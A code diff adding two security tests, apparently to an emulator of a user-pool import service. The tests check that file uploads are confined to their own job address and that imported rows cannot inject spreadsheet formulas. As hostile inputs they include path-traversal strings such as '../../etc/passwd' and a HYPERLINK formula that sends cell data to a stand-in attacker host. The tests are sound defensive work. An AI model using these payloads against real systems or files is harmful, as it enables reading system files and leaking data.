@@ -491,4 +491,67 @@ describe("the address of a file", () => {
     const parts = await house.app.db.selectFrom("import_parts").select("job_id").execute();
     expect(parts.filter(({ job_id }) => job_id === job.JobId)).toEqual([]);
   });
+
+  it("INJ-08: takes a file only at the address of its own job, whatever a name or an address says", async () => {
+    const pool = await makePool(house, { client });
+    const { UserPoolId } = pool;
+    expect((await refusalOf(newImportJob(house, pool, { JobName: "../../etc/passwd" }))).name).toBe(
+      "InvalidParameterException",
+    );
+    const mine = await newImportJob(house, pool, { JobName: ".. @=+ .." });
+    const other = await newImportJob(house, pool, { JobName: "other" });
+    expect(new URL(mine.url).pathname).toBe(`/_poolhouse/imports/${UserPoolId}/${mine.JobId}`);
+    const token = new URL(mine.url).searchParams.get("token") ?? "";
+    const addressOf = (pathname: string, given: string) =>
+      `${house.url}${pathname}${given === "" ? "" : `?token=${encodeURIComponent(given)}`}`;
+    const ownPath = `/_poolhouse/imports/${UserPoolId}/${mine.JobId}`;
+    for (const [path, given] of [
+      [`/_poolhouse/imports/${UserPoolId}/${other.JobId}`, token],
+      [`/_poolhouse/imports/us-east-1_nothere00/${mine.JobId}`, token],
+      [ownPath, ""],
+      [ownPath, token.slice(0, -1)],
+      [ownPath, `${token}x`],
+      [ownPath, token.toUpperCase()],
+      [`/_poolhouse/imports/${UserPoolId}/..%2f${mine.JobId}`, token],
+      [`/_poolhouse/imports/${UserPoolId}/../${UserPoolId}/${other.JobId}`, token],
+      [`${ownPath}/report`, "x"],
+    ] as const)
+      expect([403, 404], `${path} ${given}`).toContain((await putFile(addressOf(path, given), "a")).status);
+    expect((await putFile(mine.url, "a")).status).toBe(200);
+    const report = await fetch(other.url.replace("?", "/report?").replace(/token=.*/, `token=${token}`));
+    expect([403, 404]).toContain(report.status);
+  });
+
+  it("INJ-07: takes hostile rows for texts, or refuses them each with its line, and never a password", async () => {
+    const pool = await makePool(house, { client });
+    const header = await headerOf(house, pool);
+    expect(header.filter((name) => /password/i.test(name))).toEqual([]);
+    const formula = '=HYPERLINK("https://evil.example?x="&A1,"click")';
+    const file = fileOf(header, [
+      personRow("formula@example.com", { name: formula, nickname: "@SUM(1)", given_name: "+1", family_name: "-1" }),
+      personRow("lines@example.com", { name: 'two\nlines "quoted"', profile: "\tTAB" }),
+      personRow("long@example.com", { name: "x".repeat(16_001) }),
+      personRow("twice@example.com"),
+      personRow("twice@example.com"),
+      personRow("mfa@example.com", { "cognito:mfa_enabled": "TRUE" }),
+      personRow("last@example.com"),
+    ]);
+    const { done, report } = await importFile(house, pool, `\ufeff${file}`);
+    const lines = report.trim().split("\n");
+    expect([done.ImportedUsers, done.SkippedUsers, done.FailedUsers, lines]).toEqual([
+      4,
+      1,
+      2,
+      [
+        expect.stringMatching(/^\[FAILED\] Line Number \d+ - /),
+        expect.stringMatching(/^\[SKIPPED\] Line Number \d+ - /),
+        expect.stringMatching(/^\[FAILED\] Line Number \d+ - .*phone_number/),
+        "Imported 4, skipped 1, failed 2.",
+      ],
+    ]);
+    // The report is read in a spreadsheet: nothing in it is a formula.
+    expect(lines.filter((line) => /^[=+\-@\t\r]/.test(line))).toEqual([]);
+    const user = await house.api.adminGetUser({ UserPoolId: pool.UserPoolId, Username: "formula@example.com" });
+    expect(user.UserAttributes).toContainEqual({ Name: "name", Value: formula });
+  });
 });
